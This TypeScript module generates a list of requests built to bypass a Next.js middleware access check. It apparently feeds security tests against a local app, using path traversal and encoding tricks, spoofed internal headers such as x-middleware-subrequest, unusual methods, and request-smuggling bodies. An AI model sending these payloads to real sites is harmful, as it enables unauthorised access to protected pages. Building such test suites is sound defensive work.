// The known ways past a doorkeeper of Next.js, and past proxies in front of one, as requests for an inner path.

export type Bypass = {
  name: string;
  target: string;
  method?: string;
  headers?: Record<string, string | string[]>;
  body?: string;
};

const encodeAll = (text: string) =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

/** @param inner `/<segment>/visits/x`, as the doorkeeper itself asks for it */
export function bypassesTo(inner: string, outer: string, actions: string[]): Bypass[] {
  return [...byPath(inner), ...byHeader(inner, outer), ...byMethod(inner, actions)];
}

/** The same place under other addresses. */
function byPath(inner: string): Bypass[] {
  const [, segment = '', ...rest] = inner.split('/');
  const path = rest.join('/');
  const upper = `/${segment.toUpperCase()}/${path}`;
  const targets = {
    'the path itself': inner,
    'a trailing slash': `${inner}/`,
    'a leading double slash': `/${inner}`,
    'double slashes inside': `/${segment}//${path}`,
    'three slashes': `//${inner}`,
    'a dot segment': `/./${segment}/${path}`,
    'a way up': `/visits/..${inner}`,
    'an encoded way up': `/visits/%2e%2e${inner}`,
    'a matrix parameter': `/visits/..;${inner}`,
    'a static folder before': `/_next/static/..${inner}`,
    'an encoded static folder before': `/_next/static/%2e%2e/%2e%2e${inner}`,
    'a file folder before': `/flags/..${inner}`,
    'an encoded slash': `/${segment}%2f${path}`,
    'an encoded segment': `/${encodeAll(segment)}/${path}`,
    'all encoded': `/${encodeAll(`${segment}/${path}`)}`,
    'encoded twice': `/${encodeAll(segment).replaceAll('%', '%25')}/${path}`,
    'an overlong encoding': `/%c0%af${segment}/${path}`,
    'a backslash': `\\${segment}\\${path}`,
    'a backslash after a slash': `/\\${segment}/${path}`,
    'upper case': upper,
    'a null byte': `${inner}%00`,
    'a line break': `${inner}%0d%0a`,
    'a space': `${inner}%20`,
    'a file name': `${inner}.html`,
    'a payload name': `${inner}.rsc`,
    'a text name': `${inner}.txt`,
    'a segment payload': `${inner}.segments/_tree.segment.rsc`,
    'a data path': `/_next/data/build-id${inner}.json`,
    'a data path of this build': `/_next/data/development${inner}.json`,
    'the image optimiser': `/_next/image?url=${encodeURIComponent(inner)}&w=640&q=75`,
    'the image optimiser, absolute': `/_next/image?url=${encodeURIComponent(`http://localhost${inner}`)}&w=640&q=75`,
    'a locale': `/en${inner}`,
    'a default locale': `/en-GB${inner}`,
    'an absolute target': `http://localhost${inner}`,
    'an absolute target elsewhere': `http://example.org${inner}`,
    'a query as the path': `/?path=${encodeURIComponent(inner)}`,
    'the parameter as a query': `/visits?audience=${encodeURIComponent(segment)}`,
    'the internal parameter as a query': `/visits?nxtPaudience=${encodeURIComponent(segment)}`,
    'a payload query': `${inner}?_rsc=abcde`,
    'a fragment': `/#${inner}`,
    'the template of the path': `/[audience]/${path}`,
    'the template, encoded': `/%5Baudience%5D/${path}`,
  };
  return Object.entries(targets).map(([name, target]) => ({ name, target }));
}

/** What frameworks and proxies tell each other, said by a stranger. */
function byHeader(inner: string, outer: string): Bypass[] {
  const [, segment = ''] = inner.split('/');
  const middleware = ['middleware', 'src/middleware', 'proxy', 'src/proxy', 'pages/_middleware'];
  const tree = encodeURIComponent(
    JSON.stringify(['', { children: [['audience', segment, 'd'], {}] }]),
  );
  const headers: [string, Record<string, string | string[]>][] = [
    ...middleware.flatMap((name): [string, Record<string, string>][] => [
      [`subrequest of ${name}`, { 'x-middleware-subrequest': name }],
      [
        `subrequest of ${name}, five times`,
        { 'x-middleware-subrequest': Array(5).fill(name).join(':') },
      ],
      [`subrequest of ${name}, upper case`, { 'X-Middleware-Subrequest': name.toUpperCase() }],
    ]),
    [
      'a header given twice',
      { 'x-middleware-subrequest': ['a', Array(5).fill('proxy').join(':')] },
    ],
    ['a rewrite', { 'x-middleware-rewrite': inner }],
    ['a next', { 'x-middleware-next': '1' }],
    ['a skip', { 'x-middleware-skip': '1' }],
    ['a redirect', { 'x-middleware-redirect': inner, location: inner }],
    [
      'overridden headers',
      { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'a=b' },
    ],
    [
      'an invoked path',
      { 'x-invoke-path': inner, 'x-invoke-output': inner, 'x-invoke-status': '200' },
    ],
    [
      'an invoked query',
      { 'x-invoke-query': encodeURIComponent(JSON.stringify({ audience: segment })) },
    ],
    ['a matched path', { 'x-matched-path': inner }],
    ['route matches', { 'x-now-route-matches': `1=${encodeURIComponent(segment)}` }],
    [
      'route matches of Next',
      { 'x-next-route-matches': `audience=${encodeURIComponent(segment)}` },
    ],
    ['a data request', { 'x-nextjs-data': '1' }],
    ['a minimal mode', { 'x-nextjs-minimal-mode': '1', 'x-vercel-id': 'a' }],
    ['a rewritten path', { 'x-nextjs-rewritten-path': inner, 'x-nextjs-rewritten-query': '' }],
    ['a prerender', { 'x-prerender-revalidate': 'x', 'x-prerender-bypass': 'x' }],
    ['an original url', { 'x-original-url': inner, 'x-rewrite-url': inner }],
    ['forwarded', { 'x-forwarded-uri': inner, 'x-forwarded-prefix': `/${segment}` }],
    ['another host', { 'x-forwarded-host': 'example.org', 'x-forwarded-proto': 'https' }],
    ['a method override', { 'x-http-method-override': 'POST' }],
    ['an audience', { 'x-audience': 'editor-red', audience: 'editor-red' }],
    ['a payload', { rsc: '1' }],
    ['a payload fetched ahead', { rsc: '1', 'next-router-prefetch': '1' }],
    ['a payload with a tree', { rsc: '1', 'next-router-state-tree': tree }],
    [
      'a segment fetched ahead',
      { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
    ],
    ['a url of the router', { rsc: '1', 'next-url': inner }],
    ['a hot reload', { rsc: '1', 'next-hmr-refresh': '1' }],
    ['a range', { range: 'bytes=0-99999' }],
    ['a known page', { 'if-none-match': '*' }],
    ['a service worker', { 'sec-purpose': 'prefetch', purpose: 'prefetch' }],
    ['an upgrade', { upgrade: 'h2c', 'http2-settings': 'AAMAAABkAAQCAAAAAAIAAAAA' }],
  ];
  return headers.flatMap(([name, more]) => [
    { name: `${name}, on the inner path`, target: inner, headers: more },
    { name: `${name}, on the page`, target: outer, headers: more },
  ]);
}

function byMethod(inner: string, actions: string[]): Bypass[] {
  const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '0' };
  return [
    ...['HEAD', 'OPTIONS', 'TRACE', 'PUT', 'PATCH', 'DELETE', 'POST', 'PROPFIND', 'PURGE'].map(
      (method) => ({ name: method, target: inner, method, headers: form }),
    ),
    ...actions.map((id) => ({
      name: `the action ${id}`,
      target: inner,
      method: 'POST',
      headers: { 'next-action': id, 'content-type': 'text/plain', 'content-length': '2' },
      body: '[]',
    })),
    {
      name: 'two lengths',
      target: inner,
      method: 'POST',
      headers: { 'content-length': ['4', '5'] },
      body: 'abcd',
    },
    {
      name: 'a request inside another',
      target: '/',
      method: 'POST',
      headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
      body: `0\r\n\r\nGET ${inner} HTTP/1.1\r\nhost: localhost\r\n\r\n`,
    },
  ];
}
